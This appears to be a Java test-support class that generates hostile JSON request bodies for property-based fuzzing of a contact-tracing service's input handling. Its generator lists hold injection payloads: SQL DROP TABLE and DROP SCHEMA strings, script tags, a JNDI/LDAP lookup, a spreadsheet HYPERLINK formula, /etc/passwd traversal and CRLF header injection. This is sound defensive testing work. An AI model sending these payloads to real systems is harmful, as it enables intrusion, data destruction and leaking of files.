package org.folio.contacttracing.support;

import io.vertx.core.json.Json;
import io.vertx.core.json.JsonObject;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * jqwik generators of hostile JSON request bodies, as raw text so that they can hold what a JSON library would
 * never write: numbers like {@code 1e400} and {@code 2^70}, lone UTF-16 surrogates, NUL and other control
 * characters, thousands of nesting levels, raw (unescaped) control characters that make the text invalid.
 *
 * <p>Every generated string value of 8 or more characters carries a marker {@code MK} plus ten capital letters,
 * so a test can check that no error answer echoes a submitted value: see {@link #markers(String)}.
 */
public final class HostileJson {
  private static final Pattern MARKER = Pattern.compile("MK[A-Z]{10}");

  private HostileJson() {
  }

  /** A distinctive token: {@code MK} and ten capital letters. */
  public static Arbitrary<String> marker() {
    return Arbitraries.strings().withCharRange('A', 'Z').ofLength(10).map(s -> "MK" + s);
  }

  /** The markers in a request text. */
  public static Set<String> markers(String text) {
    Set<String> found = new TreeSet<>();
    Matcher matcher = MARKER.matcher(text);
    while (matcher.find()) {
      found.add(matcher.group());
    }
    return found;
  }

  /** Hostile string contents (not yet JSON-encoded); each of 8+ characters carries a marker. */
  public static Arbitrary<String> hostileString() {
    Arbitrary<String> marker = marker();
    return Arbitraries.oneOf(
        marker,
        marker.map(m -> "'; DROP TABLE x;-- " + m),
        marker.map(m -> "\"); DROP SCHEMA public CASCADE; -- " + m),
        marker.map(m -> "<script>alert('" + m + "')</script>"),
        marker.map(m -> "=HYPERLINK(\"http://x/?" + m + "\")"),
        marker.map(m -> m + "\u0000"),
        marker.map(m -> "\u0000" + m + "\u0001\u0007\u001b[31m\u007f"),
        marker.map(m -> m + "\r\nX-Injected: 1\r\n"),
        marker.map(m -> m + "\ud800"),
        marker.map(m -> "\udc00" + m),
        marker.map(m -> m + "\ud83d\ude00\u202e\u200b\ufeff"),
        marker.map(m -> m + "x".repeat(4988)),
        marker.map(m -> m + "\u00e9".repeat(4988)),
        marker.map(m -> "${jndi:ldap://x/" + m + "}"),
        marker.map(m -> "../../../etc/passwd?" + m),
        marker.map(m -> "%s%n%x" + m),
        marker.map(m -> "2026-03-02T10:00:00Z" + m),
        Arbitraries.of("", " ", "a", "\u0000", "\ud800", "\t", "null", "0", "-", "\\"),
        Arbitraries.strings().all().ofMaxLength(6),
        Combinators.combine(Arbitraries.strings().all().ofMaxLength(40), marker).as((s, m) -> s + m));
  }

  /** A string as JSON text; lone surrogates and control characters are escaped as {@code \\uXXXX}. */
  public static String quote(String value) {
    StringBuilder out = new StringBuilder("\"");
    for (char c : value.toCharArray()) {
      switch (c) {
        case '"' -> out.append("\\\"");
        case '\\' -> out.append("\\\\");
        default -> {
          if (c < 0x20 || Character.isSurrogate(c) || c == 0x7f) {
            out.append(String.format("\\u%04x", (int) c));
          } else {
            out.append(c);
          }
        }
      }
    }
    return out.append('"').toString();
  }

  /** Dates and times at and past the edges of java.time, PostgreSQL and the calendar. */
  public static Arbitrary<String> hostileTemporal() {
    return Arbitraries.of("+999999999-12-31", "-999999999-01-01", "0000-01-01", "0001-01-01", "9999-12-31",
        "10000-01-01", "2026-02-30", "2026-13-01", "2024-02-29", "+999999999-12-31T23:59:59.999999999-18:00",
        "-999999999-01-01T00:00:00+18:00", "0001-01-01T00:00:00+18:00", "9999-12-31T23:59:59-18:00",
        "2026-03-02T10:00:00", "2026-03-02T24:00:00Z", "2026-03-02T10:00:60Z", "2026-03-02T10:00:00+25:00",
        "2026-03-02t10:00:00z", "2026-03-02T10:00:00.1234567891Z", "1970-01-01T00:00:00Z", "2026-03-03T00:00:00Z");
  }

  /** Numbers that break naive parsing: beyond double, beyond long, negative zero, tiny, fractional. */
  public static Arbitrary<String> hostileNumber() {
    return Arbitraries.oneOf(
        Arbitraries.of("1e400", "-1e400", "1E-400", "1180591620717411303424", "-1180591620717411303424",
            "9223372036854775808", "2147483648", "-2147483649", "-0", "0", "0.5", "1.0", "366.0000000001",
            "1" + "0".repeat(1000), "0." + "0".repeat(500) + "1", "4.9e-324", "1.7976931348623157e308"),
        Arbitraries.integers().map(String::valueOf),
        Arbitraries.longs().map(String::valueOf),
        Arbitraries.doubles().map(String::valueOf).filter(s -> !s.contains("N") && !s.contains("I")));
  }

  /** Any JSON value of a wrong or hostile kind, nested at most {@code depth} deep. */
  public static Arbitrary<String> value() {
    return value(3);
  }

  private static Arbitrary<String> value(int depth) {
    Arbitrary<String> leaf = Arbitraries.frequencyOf(
        Tuple.of(5, hostileString().map(HostileJson::quote)),
        Tuple.of(2, hostileTemporal().map(HostileJson::quote)),
        Tuple.of(3, hostileNumber()),
        Tuple.of(1, Arbitraries.of("true", "false", "null", "{}", "[]", "[null]", "{\"\":null}")));
    if (depth == 0) {
      return leaf;
    }
    Arbitrary<String> array = value(depth - 1).list().ofMaxSize(4).map(items -> "[" + String.join(",", items) + "]");
    Arbitrary<String> object = Combinators.combine(extraKey(), value(depth - 1)).as((k, v) -> quote(k) + ":" + v)
        .list().ofMaxSize(3).map(members -> "{" + String.join(",", members) + "}");
    return Arbitraries.frequencyOf(Tuple.of(6, leaf), Tuple.of(1, array), Tuple.of(1, object),
        Tuple.of(1, deepNesting()));
  }

  /** Arrays or objects nested from a few hundred to a few thousand levels. */
  public static Arbitrary<String> deepNesting() {
    return Combinators.combine(Arbitraries.integers().between(100, 3000), Arbitraries.of("[", "{\"a\":"))
        .as((levels, open) -> open.repeat(levels) + "1" + (open.equals("[") ? "]" : "}").repeat(levels));
  }

  /** Property names that are not in any schema; none carries a marker, since error answers name the field. */
  public static Arbitrary<String> extraKey() {
    return Arbitraries.oneOf(
        Arbitraries.of("patronId", "barcode", "userId", "notes", "__proto__", "constructor", "$where", "$ref",
            "id'; DROP TABLE x;--", "<script>", "", " ", "\u0000", "\ud800", "a.b", "a[0]", "LOCATION", "Name"),
        Arbitraries.strings().withCharRange('a', 'z').ofMinLength(1).ofMaxLength(7));
  }

  /** Whole bodies that are not a valid object: other JSON types, broken text, deep nesting, huge numbers. */
  public static Arbitrary<String> wholeBody() {
    return Arbitraries.oneOf(
        value(2),
        deepNesting(),
        Arbitraries.of("", "{", "}", "{\"a\":}", "{\"a\" 1}", "{'a':1}", "{\"a\":1,}", "[1,2]", "null", "\"x\"",
            "{\"a\":1}{\"b\":2}", "{\"a\":NaN}", "{\"a\":Infinity}", "{\"a\":0x10}", "\ufeff{}", "{\"a\":\"\u0000\"}",
            "{\"a\":\"\t\"}", "{\"a\":\"\\ud800\"}", "{\"a\":\"\\x00\"}", "{\"a\":\"\\u00\"}"),
        hostileString().map(s -> "{\"a\":\"" + s + "\"}"));
  }

  /** A JSON body as an ordered tree whose leaves are raw JSON texts, so that any part can be replaced. */
  public static Map<String, Object> tree(JsonObject valid) {
    Map<String, Object> tree = new LinkedHashMap<>();
    valid.forEach(entry -> tree.put(entry.getKey(), entry.getValue() instanceof JsonObject nested
        ? tree(nested) : new Raw(Json.encode(entry.getValue()))));
    return tree;
  }

  /** Raw JSON text. */
  public record Raw(String json) {
  }

  public static String render(Map<String, Object> tree) {
    List<String> members = new ArrayList<>();
    tree.forEach((key, value) -> members.add(quote(key) + ":"
        + (value instanceof Raw raw ? raw.json() : render(asTree(value)))));
    return "{" + String.join(",", members) + "}";
  }

  @SuppressWarnings("unchecked")
  private static Map<String, Object> asTree(Object value) {
    return (Map<String, Object>) value;
  }

  /** Paths to every member of the tree, nested ones included. */
  private static List<List<String>> paths(Map<String, Object> tree, List<String> prefix) {
    List<List<String>> paths = new ArrayList<>();
    tree.forEach((key, value) -> {
      List<String> path = new ArrayList<>(prefix);
      path.add(key);
      paths.add(path);
      if (value instanceof Map<?, ?>) {
        paths.addAll(paths(asTree(value), path));
      }
    });
    return paths;
  }

  /** Paths to the object itself and every nested object, where an extra property can be added. */
  private static List<List<String>> objectPaths(Map<String, Object> tree, List<String> prefix) {
    List<List<String>> paths = new ArrayList<>();
    paths.add(prefix);
    tree.forEach((key, value) -> {
      if (value instanceof Map<?, ?>) {
        List<String> path = new ArrayList<>(prefix);
        path.add(key);
        paths.addAll(objectPaths(asTree(value), path));
      }
    });
    return paths;
  }

  private static Map<String, Object> copy(Map<String, Object> tree) {
    Map<String, Object> copy = new LinkedHashMap<>();
    tree.forEach((key, value) -> copy.put(key, value instanceof Map<?, ?> ? copy(asTree(value)) : value));
    return copy;
  }

  private static Map<String, Object> parentOf(Map<String, Object> tree, List<String> path) {
    Map<String, Object> parent = tree;
    for (String key : path.subList(0, path.size() - 1)) {
      parent = asTree(parent.get(key));
    }
    return parent;
  }

  private static String replaced(Map<String, Object> valid, List<String> path, String json) {
    Map<String, Object> copy = copy(valid);
    parentOf(copy, path).put(path.get(path.size() - 1), new Raw(json));
    return render(copy);
  }

  private static String removed(Map<String, Object> valid, List<String> path) {
    Map<String, Object> copy = copy(valid);
    parentOf(copy, path).remove(path.get(path.size() - 1));
    return render(copy);
  }

  private static String added(Map<String, Object> valid, List<String> objectPath, String key, String json) {
    Map<String, Object> copy = copy(valid);
    Map<String, Object> target = copy;
    for (String step : objectPath) {
      target = asTree(target.get(step));
    }
    target.put(key, new Raw(json));
    return render(copy);
  }

  /**
   * A valid body spoiled in one way: a member replaced by a hostile string or a value of a wrong kind, a member
   * dropped, an extra property added (at the top or in a nested object), or the whole body replaced.
   * Some of these are still valid; a test must accept either a success or a clean refusal.
   */
  public static Arbitrary<String> mutated(JsonObject validBody) {
    Map<String, Object> valid = tree(validBody);
    List<List<String>> paths = paths(valid, List.of());
    List<List<String>> objects = objectPaths(valid, List.of());
    Arbitrary<List<String>> path = Arbitraries.of(paths);
    return Arbitraries.frequencyOf(
        Tuple.of(4, Combinators.combine(path, hostileString()).as((p, s) -> replaced(valid, p, quote(s)))),
        Tuple.of(4, Combinators.combine(path, value()).as((p, v) -> replaced(valid, p, v))),
        Tuple.of(1, path.map(p -> removed(valid, p))),
        Tuple.of(2, Combinators.combine(Arbitraries.of(objects), extraKey(), value())
            .as((o, k, v) -> added(valid, o, k, v))),
        Tuple.of(1, Combinators.combine(path, hostileString(), path, value()).as((p1, s, p2, v) -> {
          Map<String, Object> copy = copy(valid);
          parentOf(copy, p1).put(p1.get(p1.size() - 1), new Raw(quote(s)));
          if (!(p2.size() > p1.size() && p2.subList(0, p1.size()).equals(p1))) {
            parentOf(copy, p2).put(p2.get(p2.size() - 1), new Raw(v));
          }
          return render(copy);
        })),
        Tuple.of(2, wholeBody()));
  }
}
